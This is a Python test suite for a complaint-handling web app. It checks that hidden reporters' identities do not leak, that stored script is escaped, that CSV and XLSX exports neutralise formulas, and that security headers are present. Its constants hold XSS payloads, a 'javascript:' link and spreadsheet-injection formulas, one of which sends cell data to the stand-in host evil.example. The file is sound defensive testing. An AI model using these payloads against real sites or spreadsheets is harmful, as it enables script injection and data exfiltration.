"""Every GET route of the app, read by the public, a reporter and the staff roles, after hostile text went
into every free-text field a citizen or staff member can fill. One sweep, then one test per promise:

* a hidden identity never leaves the administrator's view: an anonymous reporter's name, phone and e-mail —
  in the complaint's fields and in their own words — reach no page, answer or export of anyone else, and a
  search by them finds nothing (tests/web/test_public_leaks.py follows the public surfaces per channel);
* stored script is shown as text: no page carries a payload as markup, no link a ``javascript:`` address,
  and Open311 XML stays well-formed;
* spreadsheets (CSV, XLSX) carry no formula: text that would run is neutralised;
* every answer carries the security headers, and no page needs inline script or style.

The clocks run late first, so the breach exports hold the complaints too. Set ``SECURITY_FULL=1`` to read
as every role (the default reads as the roles whose views differ most).
"""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import T0, new_complaint
from tests.security.conftest import (
    CONFIDENTIAL,
    FULL,
    HIDDEN,
    ROLE_ACCOUNTS,
    Filed,
    World,
    identity_forms,
    png,
)
from web.open311 import clients
from web.transaction import unit_of_work
from workflow.db import db
from workflow.domain.rules import Actor
from workflow.models import Notice, OutboxMessage, User
from workflow.services import attachments, commitments, desk, notes, people, programmes, ratings, self_assessment
from workflow.services.actions import take_action
from workflow.services.intake import file_complaint

SCRIPT = '<script>alert("aduflow")</script>"><img src=x onerror=alert(1)><svg onload=alert(2)>'
LINK = "javascript:alert(3)"
HOSTILE = f"{SCRIPT} {LINK}"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
# Markup that would run if a page carried the payload unescaped, and links that would run script.
RAW = ("<script>alert(", "<img src=x onerror", "<svg onload")
RUNNABLE_LINK = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
EVENT_ATTRIBUTE = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.IGNORECASE)
STYLE_ATTRIBUTE = re.compile(r"<[a-z][^>]*\sstyle\s*=", re.IGNORECASE)
# The free-text fields hostile_world() fills with script (and the exports' fields with formulas): for the record.
HOSTILE_FIELDS = ("title", "description", "location address", "reporter name", "verification comment",
                  "acknowledgement comment", "follow-up", "rating comment", "dispute reason", "reporter information",
                  "internal note", "drafted follow-up", "attachment file name", "transfer target", "external reference",
                  "transfer comment", "escalation comment", "staff full name", "commitment title", "commitment owner",
                  "commitment description", "realisation notes", "assessment place", "Open311 description",
                  "Open311 address", "Open311 first name")
FORMULA_FIELDS = ("complaint title (breach exports)", "assessment title", "assessment notes", "priority reasons")
LATER = T0 + timedelta(days=60)  # every running clock is late by then
# The public, the reporter, the administrator (who reads everything), a unit handler and the sysadmin (the
# account pages) in every run; every other role in the full run.
READERS = [None, "reporter:hostile", "admin", "pupr", "sysadmin"] + (
    ["penghubung_pupr", "coordinator", "inspector", "leader", "facilitator", "pdam"] if FULL else [])
PERIODS = {"reports.semester": "2026-S1", "reports.semester_xlsx": "2026-S1"}


def hostile_world(world: World) -> None:
    """Put hostile text and formulas into every free-text field, through the services (committed)."""
    a = world.accounts
    admin, pupr, penghubung, coordinator = (a[n].actor for n in ("admin", "pupr", "penghubung_pupr", "coordinator"))
    moment = iter(T0 + timedelta(minutes=100 + n) for n in range(200))

    def act(filed: Filed, action: str, actor: Actor, **body) -> None:
        with unit_of_work():
            take_action(filed.id, action, actor, next(moment), body)

    def file(name: str, **overrides) -> Filed:
        result = file_complaint(new_complaint(**overrides), None, next(moment))
        world.complaints[name] = Filed(result.complaint.id, result.complaint.tracking_code, result.pin)
        db.session.commit()
        return world.complaints[name]

    hostile = file("hostile", title=f"Judul {SCRIPT}", description=f"Cerita {HOSTILE}",
                   location={"desa": "Gelgel", "kecamatan": "Klungkung", "address": f"Alamat {HOSTILE}"},
                   reporter={"name": f"Nama {SCRIPT}"})
    act(hostile, "verify", admin, **{"unit": "PUPRKP", "class": "pengaduan_tidak_berkadar_pengawasan",
                                     "anonymous": False, "confidential": False, "comment": f"Verifikasi {HOSTILE}"})
    act(hostile, "acknowledge", pupr, comment=f"Diterima {HOSTILE}")
    act(hostile, "respond", penghubung, comment=f"Tanggapan {HOSTILE}")
    reporter = Actor.reporter(hostile.id)
    with unit_of_work():
        ratings.rate(hostile.id, reporter, next(moment), 1, f"Nilai {HOSTILE}")
    act(hostile, "dispute", reporter, comment=f"Sanggahan {HOSTILE}")
    act(hostile, "escalate", coordinator, comment=f"Eskalasi {HOSTILE}")
    with unit_of_work():
        notes.add_information(hostile.id, reporter, next(moment), f"Informasi {HOSTILE}")
        desk.add_note(hostile.id, pupr, next(moment), f"Catatan {HOSTILE}")
        desk.draft_response(hostile.id, pupr, next(moment), f"Draf {HOSTILE}")
        attachments.attach(hostile.id, reporter, next(moment), f'{SCRIPT}".png', io.BytesIO(png()))
    away = file("transferred", title=f"Dialihkan {SCRIPT}")
    act(away, "transfer_out", admin, target=f"Instansi {SCRIPT}", external_ref=f"REF {SCRIPT}",
        comment=f"Dialihkan {HOSTILE}")
    # Formulas where exports carry free text: complaint titles (the breach audit), the self-assessment record.
    for number, formula in enumerate(FORMULAS):
        late = file(f"formula-{number}", title=formula)
        act(late, "verify", admin, **{"unit": "PUPRKP", "class": "pengaduan_tidak_berkadar_pengawasan",
                                      "anonymous": False, "confidential": False})
    with unit_of_work():
        people.create_account(a["sysadmin"].actor, next(moment), "hostile.user", "unit_admin",
                              "correct-horse-battery", "PUPRKP", f"Petugas {SCRIPT}")
        commitments.create_commitment(admin, next(moment), "PUPRKP", 2026, f"Janji {SCRIPT}", f"Pemilik {SCRIPT}",
                                      LATER.date(), None, f"Uraian {HOSTILE}")
        programmes.record_realisation("1.1.1", 2024, admin, next(moment), "in_progress", 10, f"Catatan {HOSTILE}")
        assessment = self_assessment.open_round(coordinator, next(moment), FORMULAS[0], 2026, f"Tempat {SCRIPT}")
        matrix = self_assessment.statements_of(assessment)
        self_assessment.submit_response(assessment.id, pupr, next(moment),
                                        {str(statement.number): 2 for _, statement in matrix.statements()})
        self_assessment.close_round(assessment.id, coordinator, next(moment), FORMULAS[1])
        aspects = [aspect.code for aspect in matrix.aspects]
        self_assessment.set_priorities(assessment.id, coordinator, next(moment), aspects,
                                       {code: FORMULAS[2] + SCRIPT for code in aspects})
    _, key = clients.create_key("hostile-client", T0)
    db.session.commit()
    world.extra = {"round_id": assessment.id, "open311_key": key}
    response = world.visitor(None).post("/open311/v2/requests.json", data={
        "api_key": key, "service_code": "jalan-rusak", "lat": "-8.535", "long": "115.404",
        "description": f"Open311 {HOSTILE}", "address_string": f"Jalan {SCRIPT}", "first_name": SCRIPT,
        "attribute[kecamatan]": "Klungkung"})
    assert response.status_code == 200, response.data


def paths_of(world: World, rule) -> list[str]:
    """Return the concrete paths to read for a GET rule (each Open311 format, each escalation kind …)."""
    anonymous, hostile = world.complaints["anonymous"], world.complaints["hostile"]
    values = {"complaint_id": [anonymous.id, hostile.id], "attachment_id": [world.attachment_id],
              "tracking_code": [anonymous.code, hostile.code], "code": [PERIODS.get(rule.endpoint, hostile.code)],
              "service_request_id": [anonymous.code, hostile.code], "fmt": ["json", "xml"],
              "service_code": ["jalan-rusak"], "token": ["abc"], "rest": ["x"],
              "kind": ["at_risk", "breached", "stuck", "bounced"], "queue": ["all", "in_progress", "breached"],
              "user_id": [1, 12], "round_id": [world.extra["round_id"]], "evidence_id": [1], "commitment_id": [1],
              "notice_id": [1], "year": [2026], "mode": ["tinggi"], "size": ["besar"]}
    if rule.endpoint in ("static", "reports.static", "ui.set_language"):
        return []
    if rule.endpoint == "public.track":  # the reporter's page; others get the PIN form
        values["code"] = [hostile.code]
    paths = [rule.rule]
    for name in rule.arguments:
        paths = [re.sub(r"<(?:[a-z]+:)?" + name + ">", str(value), path) for path in paths for value in values[name]]
    return paths


@pytest.fixture(scope="module")
def sweep(world):
    """Fill the world with hostile text, let the clocks run late, and read every GET route as every reader."""
    hostile_world(world)
    world.app.config["FIXED_NOW"] = LATER
    answers = []
    try:
        for reader in READERS:
            for rule in world.app.url_map.iter_rules():
                if "GET" in rule.methods:
                    for path in paths_of(world, rule):
                        answers.append((reader, path, world.visitor(reader).get(path)))
    finally:
        world.app.config["FIXED_NOW"] = T0
    return answers


def text_of(response) -> str:
    """Return everything a reader gets: headers and body, spreadsheets unpacked."""
    data = response.get_data()
    if data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            data = b" ".join(book.read(name) for name in book.namelist() if name.endswith(".xml"))
    headers = " ".join(f"{k}: {v}" for k, v in response.headers.items())
    return headers + "\n" + data.decode("utf-8", errors="replace")


# --- hidden identities -----------------------------------------------------------------------------------


def test_the_sweep_read_the_pages_with_the_complaints_on_them(sweep):
    assert len({path for _, path, _ in sweep}) >= 80
    for reader in READERS:
        assert sum(r.status_code == 200 for who, _, r in sweep if who == reader) >= 15, reader
    # The administrator reads the hidden reporter: the others had something to miss.
    admin = " ".join(text_of(r) for who, path, r in sweep if who == "admin" and "/complaints/" in path)
    assert HIDDEN["name"] in admin and HIDDEN["phone"] in admin


def test_no_route_shows_a_hidden_reporter_to_anyone_else(sweep):
    secrets = [s.lower() for s in identity_forms(HIDDEN)]
    leaks = [f"{reader}: {path}: {secret!r}" for reader, path, response in sweep if reader != "admin"
             for secret in secrets if secret in text_of(response).lower()]
    assert not leaks, "\n".join(leaks)


@pytest.mark.parametrize("reader", [a for r, a in ROLE_ACCOUNTS.items() if r != "admin_instansi"])
def test_searching_by_the_hidden_reporter_finds_nothing(world, sweep, reader):
    anonymous = world.complaints["anonymous"]
    visitor = world.visitor(reader)
    for secret in identity_forms(HIDDEN):
        listed = visitor.get("/api/v1/complaints", query_string={"q": secret}).get_json()
        assert anonymous.id not in {item["id"] for item in listed.get("items", [])}, secret
        queue = visitor.get("/staf/antrian/all", query_string={"q": secret}).get_data(as_text=True)
        assert anonymous.code not in queue, secret
    # The complaint itself is there to be found by its own words, for those who may see it.
    words = visitor.get("/api/v1/complaints", query_string={"q": "Lubang besar di depan"}).get_json()
    visible = reader in ("pupr", "penghubung_pupr", "coordinator", "inspector", "leader", "sysadmin")
    assert (anonymous.id in {item["id"] for item in words.get("items", [])}) == visible


def test_the_administrator_still_finds_the_reporter_by_name(world, sweep):
    listed = world.visitor("admin").get("/api/v1/complaints", query_string={"q": HIDDEN["name"]}).get_json()
    assert world.complaints["anonymous"].id in {item["id"] for item in listed["items"]}


def test_no_notice_or_message_to_staff_but_the_administrators_carries_the_reporter(sweep):
    admins = set(db.session.scalars(select(User.id).where(User.role == "admin_instansi")))
    secrets = [s.lower() for s in identity_forms(HIDDEN)]
    notices = [n for n in db.session.scalars(select(Notice)) if n.user_id not in admins]
    messages = [m for m in db.session.scalars(select(OutboxMessage))
                if m.kind == "inapp" and not set(m.payload["user_ids"]) <= admins]
    assert notices and messages
    for text in [json.dumps({c.name: str(getattr(n, c.name)) for c in Notice.__table__.columns}) for n in notices] + [
            json.dumps(m.payload, ensure_ascii=False) for m in messages]:
        assert not [s for s in secrets if s in text.lower()], text


def test_a_confidential_complaint_is_nowhere_public(sweep, world):
    confidential = world.complaints["confidential"]
    for reader, path, response in sweep:
        if reader is None:
            text = text_of(response)
            assert "Banjar Siku" not in text and "Air mati sejak" not in text, path
            assert not [s for s in identity_forms(CONFIDENTIAL) if s in text], path
    assert world.visitor(None).get(f"/pengaduan/{confidential.code}").status_code == 404


# --- stored script, formulas, headers ------------------------------------------------------------------


def test_stored_script_is_shown_as_text_on_every_page(sweep):
    pages = [(reader, path, r) for reader, path, r in sweep if r.mimetype == "text/html"]
    problems = [f"{reader}: {path}: {marker!r}" for reader, path, r in pages for marker in RAW
                if marker in r.get_data(as_text=True)]
    problems += [f"{reader}: {path}: javascript: link" for reader, path, r in pages
                 if RUNNABLE_LINK.search(r.get_data(as_text=True))]
    assert not problems, "\n".join(problems)
    # The payloads did reach the pages, escaped.
    shown = {path for _, path, r in pages if "&lt;script&gt;alert(" in r.get_data(as_text=True)}
    assert len(shown) >= 8, shown


def test_open311_xml_stays_well_formed_and_carries_the_text(sweep):
    documents = [r for reader, path, r in sweep if path.startswith("/open311/") and path.endswith(".xml")
                 and r.status_code == 200]
    assert documents
    carried = False
    for response in documents:
        root = ElementTree.fromstring(response.data)  # escaped, or it would not parse
        carried |= any(SCRIPT in (element.text or "") for element in root.iter())
    assert carried


def test_api_answers_are_json_that_browsers_never_sniff(sweep):
    for _, path, response in sweep:
        if path.startswith("/api/") and response.status_code == 200 and "attachments/" not in path:
            assert response.mimetype == "application/json", path
            assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_spreadsheets_carry_no_formula(sweep):
    exports = [(path, r) for reader, path, r in sweep
               if r.status_code == 200 and r.mimetype in ("text/csv", "application/vnd.openxmlformats-"
                                                                      "officedocument.spreadsheetml.sheet")]
    assert {p.rsplit(".", 1)[-1] for p, _ in exports} >= {"csv", "xlsx"}
    cells = []
    for path, response in exports:
        if response.mimetype == "text/csv":
            rows = csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
            cells += [(path, value, "s") for row in rows for value in row]
        else:
            book = load_workbook(io.BytesIO(response.data))
            cells += [(path, cell.value, cell.data_type) for sheet in book for row in sheet.iter_rows()
                      for cell in row if cell.value is not None]
    assert not [(p, v) for p, v, kind in cells if kind == "f"]
    running = [(p, v) for p, v, _ in cells if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r"))
               and not v.lstrip("-").replace(".", "", 1).isdigit()]
    assert not running, running[:5]
    # The formulas did reach the exports, neutralised.
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK(") for _, v, _ in cells)


def test_every_answer_carries_the_security_headers(sweep):
    problems = []
    for reader, path, response in sweep:
        csp = response.headers.get("Content-Security-Policy", "")
        script = re.search(r"script-src ([^;]*)", csp)
        checks = {"nosniff": response.headers.get("X-Content-Type-Options") == "nosniff",
                  "referrer": response.headers.get("Referrer-Policy") in ("same-origin", "no-referrer"),
                  "framing": "frame-ancestors 'none'" in csp or "sandbox" in csp,
                  "script": "default-src 'none'" in csp or (script and "unsafe-inline" not in script.group(1)),
                  "no hsts over http": "Strict-Transport-Security" not in response.headers}
        problems += [f"{path} ({reader}): {name}" for name, ok in checks.items() if not ok]
    assert not problems, "\n".join(problems[:20])


def test_no_page_needs_inline_script_or_style(sweep):
    problems = []
    for reader, path, response in sweep:
        if response.mimetype != "text/html":
            continue
        page = response.get_data(as_text=True)
        for name, pattern in (("inline script", INLINE_SCRIPT), ("event attribute", EVENT_ATTRIBUTE),
                              ("style attribute", STYLE_ATTRIBUTE)):
            if found := pattern.search(page):
                problems.append(f"{path} ({reader}): {name}: {found.group(0)[:80]}")
    assert not problems, "\n".join(sorted(set(problems))[:20])
